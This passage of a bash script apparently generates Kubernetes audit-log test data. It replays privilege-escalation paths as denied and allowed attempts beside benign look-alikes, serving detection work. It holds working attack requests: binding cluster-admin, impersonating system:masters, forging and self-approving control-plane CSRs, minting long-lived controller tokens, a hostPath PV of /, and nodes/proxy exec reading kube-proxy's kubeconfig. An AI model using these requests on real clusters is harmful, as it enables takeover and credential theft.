#!/bin/bash
# Every documented privilege-escalation path, each with an ALLOWED and a DENIED attempt where
# the path has both, beside the benign look-alikes that must stay quiet. Runs from a clean
# cluster (record-escalation.sh). Its audit log is testdata/apiserver-1.36-escalation.log (and,
# under other audit policies, -escalation-metadata.log / -escalation-request.log).
# Who is where:
#   admin     the platform team: kubectl from 10.20.4.17, Helm/3.15.2 from the same host,
#             kubeadm from the control-plane node 10.0.0.10
#   alice     platform engineer: kubectl from her workstation 10.20.4.33; from 203.0.113.50
#             (outside) for the impersonation step
#   mallory   the attacker: python-requests / kubectl from 203.0.113.66
#   node-1    its kubelet (system:node:node-1) from 10.0.0.11
#   pods      Prometheus (monitoring/prometheus-server, 10.244.0.32) and a CI runner
#             (team-a/ci-bot, 10.244.0.95), with pod-bound tokens minted by the kubelet
# Steps are numbered; ground-truth.md lists each with its expected severity.
. "$(dirname "$0")/oplib.sh"
set -x
KUBEADM_UA='kubeadm/v1.36.3 (linux/amd64) kubernetes/8ad8c5f'
MAL=203.0.113.66; PY=python-requests/2.31.0
adm() { req $A "$ADMIN_XFF" "$KUBECTL_UA" "$@"; }
kadm() { req $A "$CP_XFF" "$KUBEADM_UA" "$@"; }
ali() { req $D "$ALICE_XFF" "$KUBECTL_UA" "$@"; }
mal() { req $M $MAL $PY "$@"; }
malk() { req $M $MAL "$KUBECTL_UA" "$@"; }
y() { y2j | jq -c .; }   # one manifest (YAML) as compact JSON
RB=/apis/rbac.authorization.k8s.io/v1
CSR=/apis/certificates.k8s.io/v1/certificatesigningrequests
# csr NAME SUBJECT SIGNER USAGES-JSON [ec]: a CertificateSigningRequest made with openssl
csr() {
  if [ "${5:-}" = ec ]; then openssl ecparam -genkey -name prime256v1 -out "$ST/$1.key" 2>/dev/null
  else openssl genrsa -out "$ST/$1.key" 2048 2>/dev/null; fi
  openssl req -new -key "$ST/$1.key" -subj "$2" -out "$ST/$1.csr" 2>/dev/null
  jq -cn --arg n "$1" --arg r "$(base64 -w0 "$ST/$1.csr")" --arg s "$3" --argjson u "$4" \
    '{apiVersion:"certificates.k8s.io/v1",kind:"CertificateSigningRequest",metadata:{name:$n},spec:{request:$r,signerName:$s,usages:$u}}'
}
approve() { # WHO-FUNCTION NAME: what `kubectl certificate approve` sends (GET, then PUT .../approval)
  local who=$1 n=$2
  OUT=$ST/csr.json $who GET "$CSR/$n" >/dev/null
  $who PUT "$CSR/$n/approval" "$(jq -c --arg t "$(now)" '.status.conditions = ((.status.conditions // []) + [{type:"Approved",status:"True",reason:"KubectlApprove",message:"This CSR was approved by kubectl certificate approve.",lastUpdateTime:$t,lastTransitionTime:$t}]) | del(.metadata.managedFields)' "$ST/csr.json")"
}
sa_token_secret() { # NS SA NAME
  jq -cn --arg ns "$1" --arg sa "$2" --arg n "$3" '{apiVersion:"v1",kind:"Secret",metadata:{name:$n,namespace:$ns,annotations:{"kubernetes.io/service-account.name":$sa}},type:"kubernetes.io/service-account-token"}'
}

# ==== 0. Setup (ROUTINE) =======================================================================
# 0.1 kubeadm: the node-bootstrap bindings (incl. kubelet client-cert auto-approval for
#     system:nodes), CoreDNS and kube-proxy in kube-system.
for o in "$(y <<'Y'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: "kubeadm:node-autoapprove-certificate-rotation"}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:certificates.k8s.io:certificatesigningrequests:selfnodeclient"}
subjects: [{kind: Group, name: "system:nodes"}]
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: ServiceAccount, metadata: {name: coredns, namespace: kube-system}}
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: ServiceAccount, metadata: {name: kube-proxy, namespace: kube-system}}
Y
)" "$(y <<'Y'
apiVersion: apps/v1
kind: Deployment
metadata: {name: coredns, namespace: kube-system, labels: {k8s-app: kube-dns}}
spec:
  replicas: 1
  selector: {matchLabels: {k8s-app: kube-dns}}
  template:
    metadata: {labels: {k8s-app: kube-dns}}
    spec:
      serviceAccountName: coredns
      priorityClassName: system-cluster-critical
      containers: [{name: coredns, image: "registry.k8s.io/coredns/coredns:v1.12.1", args: [-conf, /etc/coredns/Corefile]}]
Y
)" "$(y <<'Y'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube-proxy, namespace: kube-system, labels: {k8s-app: kube-proxy}}
spec:
  selector: {matchLabels: {k8s-app: kube-proxy}}
  template:
    metadata: {labels: {k8s-app: kube-proxy}}
    spec:
      serviceAccountName: kube-proxy
      hostNetwork: true
      priorityClassName: system-node-critical
      tolerations: [{operator: Exists}]
      containers: [{name: kube-proxy, image: "registry.k8s.io/kube-proxy:v1.36.3", securityContext: {privileged: true}}]
Y
)"; do kadm POST "$(rpath <<<"$o")" "$o"; done
# 0.2 node-1 joins: the kubelet registers its Node; its heartbeat runs in the background.
bash "$(dirname "$0")/kubelet.sh" register
setsid bash "$(dirname "$0")/kubelet.sh" heartbeat > "$RUN/kubelet-heartbeat.log" 2>&1 &
echo $! > "$RUN/kubelet-heartbeat.xpid"
# 0.3 admin: namespaces (team-a baseline, payments restricted), alice admin of team-a,
#     read-only platform role for alice, team secrets, a Job, a kube-system secret.
for o in "$(y <<'Y'
{apiVersion: v1, kind: Namespace, metadata: {name: team-a, labels: {pod-security.kubernetes.io/enforce: baseline}}}
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: Namespace, metadata: {name: payments, labels: {pod-security.kubernetes.io/enforce: restricted, pod-security.kubernetes.io/enforce-version: latest}}}
Y
)" "$(y <<'Y'
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: alice-admin, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: alice}]
Y
)" "$(y <<'Y'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: platform-readonly}
rules:
- {apiGroups: [""], resources: [pods, services, configmaps, namespaces, nodes, events], verbs: [get, list, watch]}
- {apiGroups: [apps], resources: [deployments, daemonsets, statefulsets, replicasets], verbs: [get, list, watch]}
Y
)" "$(y <<'Y'
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: alice-platform-readonly}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: platform-readonly}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: alice}]
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: ServiceAccount, metadata: {name: ci-bot, namespace: team-a}}
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: Secret, metadata: {name: db-creds, namespace: team-a}, type: Opaque, stringData: {password: team-a-hunter2}}
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: Secret, metadata: {name: stripe-key, namespace: payments}, type: Opaque, stringData: {key: sk_live_hunter2}}
Y
)" "$(y <<'Y'
{apiVersion: v1, kind: Secret, metadata: {name: etcd-backup-s3, namespace: kube-system}, type: Opaque, stringData: {AWS_SECRET_ACCESS_KEY: etcd-backup-hunter2}}
Y
)" "$(y <<'Y'
apiVersion: batch/v1
kind: Job
metadata: {name: db-migrate, namespace: team-a}
spec:
  suspend: true
  backoffLimit: 2
  template:
    spec:
      restartPolicy: Never
      containers: [{name: migrate, image: "registry.example.com/team-a/migrate:2.3.1", command: [./migrate, up], securityContext: {allowPrivilegeEscalation: false}}]
Y
)"; do adm POST "$(rpath <<<"$o")" "$o"; done
# 0.4 Helm (admin) installs Prometheus (nodes/proxy get for its kubelet scrapes) and, as the
#     benign look-alike of the RBAC paths, ingress-nginx with its ClusterRole/Role (secrets
#     list/watch included) and bindings.
{ y2j <<'Y'
{apiVersion: v1, kind: ServiceAccount, metadata: {name: prometheus-server}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: prometheus-server}
rules:
- {apiGroups: [""], resources: [nodes, nodes/proxy, nodes/metrics, services, endpoints, pods, ingresses, configmaps], verbs: [get, list, watch]}
- {apiGroups: [discovery.k8s.io], resources: [endpointslices], verbs: [get, list, watch]}
- {nonResourceURLs: [/metrics], verbs: [get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: prometheus-server}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: prometheus-server}
subjects: [{kind: ServiceAccount, name: prometheus-server, namespace: monitoring}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: prometheus-server}
spec:
  selector: {matchLabels: {app.kubernetes.io/name: prometheus-server}}
  template:
    metadata: {labels: {app.kubernetes.io/name: prometheus-server}}
    spec: {serviceAccountName: prometheus-server, containers: [{name: prometheus-server, image: "quay.io/prometheus/prometheus:v2.53.0"}]}
Y
} | helm_admin_install prometheus monitoring create-namespace
{ y2j <<'Y'
{apiVersion: v1, kind: ServiceAccount, metadata: {name: ingress-nginx}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: ingress-nginx}
rules:
- {apiGroups: [""], resources: [configmaps, endpoints, nodes, pods, secrets, namespaces], verbs: [list, watch]}
- {apiGroups: [coordination.k8s.io], resources: [leases], verbs: [list, watch]}
- {apiGroups: [""], resources: [nodes], verbs: [get]}
- {apiGroups: [""], resources: [services], verbs: [get, list, watch]}
- {apiGroups: [networking.k8s.io], resources: [ingresses, ingressclasses], verbs: [get, list, watch]}
- {apiGroups: [""], resources: [events], verbs: [create, patch]}
- {apiGroups: [networking.k8s.io], resources: [ingresses/status], verbs: [update]}
- {apiGroups: [discovery.k8s.io], resources: [endpointslices], verbs: [list, watch, get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ingress-nginx}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ingress-nginx}
subjects: [{kind: ServiceAccount, name: ingress-nginx, namespace: ingress-nginx}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: ingress-nginx}
rules:
- {apiGroups: [""], resources: [namespaces], verbs: [get]}
- {apiGroups: [""], resources: [configmaps, pods, secrets, endpoints], verbs: [get, list, watch]}
- {apiGroups: [""], resources: [services], verbs: [get, list, watch]}
- {apiGroups: [networking.k8s.io], resources: [ingresses, ingressclasses], verbs: [get, list, watch]}
- {apiGroups: [coordination.k8s.io], resources: [leases], resourceNames: [ingress-nginx-leader], verbs: [get, update]}
- {apiGroups: [coordination.k8s.io], resources: [leases], verbs: [create]}
- {apiGroups: [""], resources: [events], verbs: [create, patch]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: ingress-nginx}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: ingress-nginx}
subjects: [{kind: ServiceAccount, name: ingress-nginx, namespace: ingress-nginx}]
---
{apiVersion: v1, kind: Service, metadata: {name: ingress-nginx-controller}, spec: {type: LoadBalancer, selector: {app.kubernetes.io/name: ingress-nginx}, ports: [{name: http, port: 80}, {name: https, port: 443}]}}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: ingress-nginx-controller}
spec:
  selector: {matchLabels: {app.kubernetes.io/name: ingress-nginx}}
  template:
    metadata: {labels: {app.kubernetes.io/name: ingress-nginx}}
    spec: {serviceAccountName: ingress-nginx, containers: [{name: controller, image: "registry.k8s.io/ingress-nginx/controller:v1.10.1", args: [/nginx-ingress-controller, --election-id=ingress-nginx-leader]}]}
Y
} | helm_admin_install ingress-nginx ingress-nginx create-namespace
# 0.5 alice deploys her toolbox and the CI runner (ServiceAccount ci-bot) in team-a.
for o in "$(y <<'Y'
apiVersion: apps/v1
kind: Deployment
metadata: {name: toolbox, namespace: team-a}
spec:
  selector: {matchLabels: {app: toolbox}}
  template:
    metadata: {labels: {app: toolbox}}
    spec: {containers: [{name: toolbox, image: "busybox:1.36", command: [sleep, 1d], securityContext: {allowPrivilegeEscalation: false}}]}
Y
)" "$(y <<'Y'
apiVersion: apps/v1
kind: Deployment
metadata: {name: ci-runner, namespace: team-a}
spec:
  selector: {matchLabels: {app: ci-runner}}
  template:
    metadata: {labels: {app: ci-runner}}
    spec: {serviceAccountName: ci-bot, containers: [{name: runner, image: "gitlab/gitlab-runner:v16.11.0", securityContext: {allowPrivilegeEscalation: false}}]}
Y
)"; do ali POST "$(rpath <<<"$o")?fieldManager=kubectl-create&fieldValidation=Strict" "$o"; done
sleep 3
# 0.6 the kubelet starts the Prometheus and CI pods (bound tokens); pods of kube-system and
#     team-a as the kubelet sees them.
bash "$(dirname "$0")/kubelet.sh" start prometheus ci-runner
OUT=$ST/esc-pods.json req $N "$NODE_XFF" "$KUBELET_UA" GET '/api/v1/pods?fieldSelector=spec.nodeName%3Dnode-1&limit=500&resourceVersion=0'
PROXY_POD=$(jq -r '[.items[] | select(.metadata.name|startswith("kube-proxy-"))][0].metadata.name' "$ST/esc-pods.json")
DNS_POD=$(jq -r '[.items[] | select(.metadata.name|startswith("coredns-"))][0].metadata.name' "$ST/esc-pods.json")
TOOL_POD=$(jq -r '[.items[] | select(.metadata.name|startswith("toolbox-"))][0].metadata.name' "$ST/esc-pods.json")
PROM=$(optok prometheus); CI=$(optok ci-runner)
# 0.7 Prometheus scrapes node-1 through the apiserver (BENIGN look-alike of nodes/proxy: info).
for p in /metrics /metrics/cadvisor /stats/summary; do req "$PROM" "${OP_IP[prometheus]}" "${OP_UA[prometheus]}" GET "/api/v1/nodes/node-1/proxy$p"; done
sleep 2

# ==== 1. mallory before any grant: every path DENIED (ATTACK attempts, 403) ====================
mal POST $RB/clusterrolebindings "$(jq -cn '{apiVersion:"rbac.authorization.k8s.io/v1",kind:"ClusterRoleBinding",metadata:{name:"mallory-admin"},roleRef:{apiGroup:"rbac.authorization.k8s.io",kind:"ClusterRole",name:"cluster-admin"},subjects:[{apiGroup:"rbac.authorization.k8s.io",kind:"User",name:"mallory"}]}')"   # 1.1 bind cluster-admin
HDRS=$'Impersonate-User: system:admin\nImpersonate-Group: system:masters' mal GET /api/v1/namespaces/kube-system/secrets   # 1.2 impersonate system:masters
mal POST "/api/v1/nodes/node-1/proxy/run/kube-system/$PROXY_POD/kube-proxy?cmd=id"              # 1.3 nodes/proxy run
HDRS=$'Connection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Protocol: v4.channel.k8s.io' \
  mal GET "/api/v1/nodes/node-1/proxy/exec/kube-system/$PROXY_POD/kube-proxy?command=id&output=1&error=1"   # 1.4 nodes/proxy exec (websocket)
mal POST $CSR "$(csr m-node-evil-1 '/O=system:nodes/CN=system:node:evil' kubernetes.io/kube-apiserver-client '["client auth"]')"   # 1.5 CSR
mal POST /api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":31536000}}'   # 1.6 TokenRequest
mal POST /api/v1/namespaces/kube-system/secrets "$(sa_token_secret kube-system clusterrole-aggregation-controller cac-token)"   # 1.7 legacy token Secret
mal GET /api/v1/namespaces/kube-system/secrets/etcd-backup-s3                                   # 1.8 get a secret
mal PATCH /apis/batch/v1/namespaces/team-a/jobs/db-migrate '{"spec":{"parallelism":3}}' application/strategic-merge-patch+json   # 1.9 patch a Job
mal PATCH "/api/v1/namespaces/kube-system/pods/$DNS_POD/ephemeralcontainers" '{"spec":{"ephemeralContainers":[{"name":"dbg","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true,"targetContainerName":"coredns","securityContext":{"privileged":true}}]}}' application/strategic-merge-patch+json   # 1.10 ephemeral container
mal POST /api/v1/persistentvolumes '{"apiVersion":"v1","kind":"PersistentVolume","metadata":{"name":"host-root"},"spec":{"capacity":{"storage":"10Gi"},"accessModes":["ReadWriteOnce"],"hostPath":{"path":"/"}}}'   # 1.11 PV hostPath
mal PATCH /api/v1/namespaces/payments '{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}' application/merge-patch+json   # 1.12 namespace relabel
mal POST /api/v1/namespaces/kube-system/pods '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"gc-shell"},"spec":{"serviceAccountName":"generic-garbage-collector","containers":[{"name":"sh","image":"busybox:1.36","command":["sleep","1d"]}]}}'   # 1.13 pod as a privileged SA
# 1.14 the CI runner's pod-bound token (a service account) reading a kube-system Secret: 403
req "$CI" "${OP_IP[ci-runner]}" "${OP_UA[ci-runner]}" GET /api/v1/namespaces/kube-system/secrets/etcd-backup-s3
sleep 2

# ==== 2. grants, and escalation through bind and escalate ======================================
# 2.1 admin lets mallory create RoleBindings in team-a (no bind); 2.2 she binds cluster-admin: DENIED (escalation check)
adm POST $RB/namespaces/team-a/roles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"rolebinding-creator","namespace":"team-a"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["rolebindings"],"verbs":["create","get","list"]}]}'
adm POST $RB/namespaces/team-a/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"mallory-rolebinding-creator","namespace":"team-a"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"rolebinding-creator"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory"}]}'
sleep 1
mal POST $RB/namespaces/team-a/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"mallory-admin","namespace":"team-a"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory"}]}'
# 2.3 admin lets alice edit ClusterRoles (no escalate); 2.4 she adds secrets to her own role: DENIED
adm POST $RB/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"role-editor"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["get","list","update","patch"]}]}'
adm POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"alice-role-editor"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"role-editor"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
ESC='[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list","watch"]}}]'
ali PATCH $RB/clusterroles/platform-readonly "$ESC" application/json-patch+json
# 2.5 admin adds escalate; 2.6 alice's same patch: ALLOWED (escalate); 2.7 she reads a kube-system Secret at once
adm PATCH $RB/clusterroles/role-editor '{"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["get","list","update","patch","escalate"]}]}' application/merge-patch+json
sleep 1
ali PATCH $RB/clusterroles/platform-readonly "$ESC" application/json-patch+json
sleep 1
ali GET /api/v1/namespaces/kube-system/secrets/etcd-backup-s3
# 2.8 admin delegates ClusterRoleBinding management to mallory (create + bind);
# 2.9 she binds herself to cluster-admin: ALLOWED (bind); 2.10 and reads a Secret right away
adm POST $RB/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"rbac-delegate"},"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterrolebindings"],"verbs":["create","get","list"]},{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind"]}]}'
adm POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"mallory-rbac-delegate"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"rbac-delegate"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory"}]}'
sleep 1
mal POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"mallory-admin"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory"}]}'
sleep 1
mal GET /api/v1/namespaces/kube-system/secrets/etcd-backup-s3
# 2.11 alice (admin of team-a, not of the cluster) creates a Role granting get/list on secrets and binds the CI bot
ali POST $RB/namespaces/team-a/roles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"secret-reader","namespace":"team-a"},"rules":[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}]}'
ali POST $RB/namespaces/team-a/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"ci-bot-secret-reader","namespace":"team-a"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"secret-reader"},"subjects":[{"kind":"ServiceAccount","name":"ci-bot","namespace":"team-a"}]}'

# ==== 3. the other paths, ALLOWED =============================================================
# 3.1 impersonation: admin grants alice impersonation (a support tool's role); from outside she
#     impersonates system:admin in system:masters (ALLOWED); mallory, now cluster-admin,
#     impersonates a kube-system controller. BENIGN: admin checks alice's access as alice.
adm POST $RB/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"impersonator"},"rules":[{"apiGroups":[""],"resources":["users","groups","serviceaccounts"],"verbs":["impersonate"]}]}'
adm POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"alice-impersonator"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"impersonator"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
HDRS=$'Impersonate-User: system:admin\nImpersonate-Group: system:masters' req $D 203.0.113.50 $PY GET /api/v1/namespaces/kube-system/secrets
HDRS='Impersonate-User: system:serviceaccount:kube-system:clusterrole-aggregation-controller' mal GET /apis/rbac.authorization.k8s.io/v1/clusterroles
HDRS='Impersonate-User: alice' adm POST /apis/authorization.k8s.io/v1/selfsubjectaccessreviews '{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"namespace":"team-a","verb":"create","resource":"deployments","group":"apps"}}}'
# 3.2 CSRs for control-plane identities (mallory): the controller-manager (ALLOWED, created),
#     a forged node (ALLOWED, created), system:masters (refused by CertificateSubjectRestriction:
#     403); then mallory approves her own controller-manager CSR (requester approves: critical).
malk POST $CSR "$(csr m-kcm '/CN=system:kube-controller-manager' kubernetes.io/kube-apiserver-client '["digital signature","key encipherment","client auth"]')"
malk POST $CSR "$(csr m-node-evil '/O=system:nodes/CN=system:node:evil' kubernetes.io/kube-apiserver-client '["digital signature","key encipherment","client auth"]')"
malk POST $CSR "$(csr m-masters '/O=system:masters/CN=mallory' kubernetes.io/kube-apiserver-client '["client auth"]')"
sleep 1
approve malk m-kcm
# 3.3 self-approval by a non-admin: admin grants alice CSR self-service (create, approve for
#     kube-apiserver-client); alice requests a certificate and approves it herself.
adm POST $RB/clusterroles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"csr-self-service"},"rules":[{"apiGroups":["certificates.k8s.io"],"resources":["certificatesigningrequests"],"verbs":["create","get","list","watch"]},{"apiGroups":["certificates.k8s.io"],"resources":["certificatesigningrequests/approval"],"verbs":["update"]},{"apiGroups":["certificates.k8s.io"],"resources":["signers"],"resourceNames":["kubernetes.io/kube-apiserver-client"],"verbs":["approve"]}]}'
adm POST $RB/clusterrolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"alice-csr-self-service"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"csr-self-service"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
ali POST $CSR "$(csr alice-breakglass '/O=platform/CN=alice-breakglass' kubernetes.io/kube-apiserver-client '["client auth"]')"
approve ali alice-breakglass
# 3.4 BENIGN look-alike: node-1's kubelet rotates its own client certificate (CN=system:node:node-1,
#     O=system:nodes, signer kube-apiserver-client-kubelet); the kube-controller-manager's
#     csrapproving controller approves it (kubeadm:node-autoapprove-certificate-rotation).
NCSR=node-csr-$(date +%s | md5sum | cut -c1-10)
req $N "$NODE_XFF" "$KUBELET_UA" POST $CSR "$(csr "$NCSR" '/O=system:nodes/CN=system:node:node-1' kubernetes.io/kube-apiserver-client-kubelet '["digital signature","client auth"]' ec)"
for i in $(seq 10); do
  sleep 1; OUT=$ST/ncsr.json req $N "$NODE_XFF" "$KUBELET_UA" GET "$CSR/$NCSR" >/dev/null
  jq -e '.status.conditions[]? | select(.type=="Approved")' "$ST/ncsr.json" >/dev/null && break
done
# (if the controller did not approve it, approve it as the controller-manager would)
jq -e '.status.conditions[]? | select(.type=="Approved")' "$ST/ncsr.json" >/dev/null || \
  req $KCM 127.0.0.1 'kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/bd4e2e8/system:serviceaccount:kube-system:certificate-controller' PUT "$CSR/$NCSR/approval" \
    "$(jq -c '.status.conditions=[{type:"Approved",status:"True",reason:"AutoApproved",message:"Auto approving self kubelet client certificate after SubjectAccessReview."}] | del(.metadata.managedFields)' "$ST/ncsr.json")"
# 3.5 legacy service-account token Secrets, read back: mallory's for a kube-system controller,
#     alice's for the team's CI bot (the kube-controller-manager fills in the token).
mal POST /api/v1/namespaces/kube-system/secrets "$(sa_token_secret kube-system clusterrole-aggregation-controller cac-token)"
ali POST /api/v1/namespaces/team-a/secrets "$(sa_token_secret team-a ci-bot ci-bot-token)"
sleep 3
mal GET /api/v1/namespaces/kube-system/secrets/cac-token
ali GET /api/v1/namespaces/team-a/secrets/ci-bot-token
# 3.6 a year-long TokenRequest for a kube-system controller's account, by a person (mallory)
mal POST /api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":31536000}}'
# 3.7 nodes/proxy exec/run/attach into kube-system pods (mallory): run 200, exec and attach by websocket 101
mal POST "/api/v1/nodes/node-1/proxy/run/kube-system/$PROXY_POD/kube-proxy?cmd=id"
HDRS=$'Connection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Protocol: v4.channel.k8s.io' \
  mal GET "/api/v1/nodes/node-1/proxy/exec/kube-system/$PROXY_POD/kube-proxy?command=sh&command=-c&command=cat+%2Fvar%2Flib%2Fkube-proxy%2Fkubeconfig.conf&output=1&error=1"
HDRS=$'Connection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Protocol: v4.channel.k8s.io' \
  mal GET "/api/v1/nodes/node-1/proxy/attach/kube-system/$DNS_POD/coredns?output=1&error=1"
#     BENIGN: Prometheus's routine scrapes again
for p in /metrics /metrics/cadvisor /stats/summary; do req "$PROM" "${OP_IP[prometheus]}" "${OP_UA[prometheus]}" GET "/api/v1/nodes/node-1/proxy$p"; done
# 3.8 workloads running as a more privileged service account: admin lets alice deploy in
#     kube-system (a log shipper); she creates a pod as generic-garbage-collector and a
#     Deployment as clusterrole-aggregation-controller. BENIGN: her log shipper with its own account.
adm POST $RB/namespaces/kube-system/roles '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"log-shipper-deployer","namespace":"kube-system"},"rules":[{"apiGroups":[""],"resources":["pods","serviceaccounts"],"verbs":["create","get","list"]},{"apiGroups":["apps"],"resources":["deployments","daemonsets"],"verbs":["create","get","list","update","patch"]}]}'
adm POST $RB/namespaces/kube-system/rolebindings '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"alice-log-shipper-deployer","namespace":"kube-system"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"log-shipper-deployer"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"alice"}]}'
sleep 1
ali POST /api/v1/namespaces/kube-system/serviceaccounts '{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"fluent-bit"}}'
ali POST /apis/apps/v1/namespaces/kube-system/daemonsets "$(y <<'Y'
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: fluent-bit, namespace: kube-system}
spec:
  selector: {matchLabels: {app: fluent-bit}}
  template:
    metadata: {labels: {app: fluent-bit}}
    spec: {serviceAccountName: fluent-bit, containers: [{name: fluent-bit, image: "cr.fluentbit.io/fluent/fluent-bit:3.0.7", volumeMounts: [{name: varlog, mountPath: /var/log, readOnly: true}]}], volumes: [{name: varlog, hostPath: {path: /var/log}}]}
Y
)"
ali POST /api/v1/namespaces/kube-system/pods '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"gc-shell"},"spec":{"serviceAccountName":"generic-garbage-collector","containers":[{"name":"sh","image":"busybox:1.36","command":["sleep","1d"]}]}}'
ali POST /apis/apps/v1/namespaces/kube-system/deployments "$(y <<'Y'
apiVersion: apps/v1
kind: Deployment
metadata: {name: rbac-sync, namespace: kube-system}
spec:
  selector: {matchLabels: {app: rbac-sync}}
  template:
    metadata: {labels: {app: rbac-sync}}
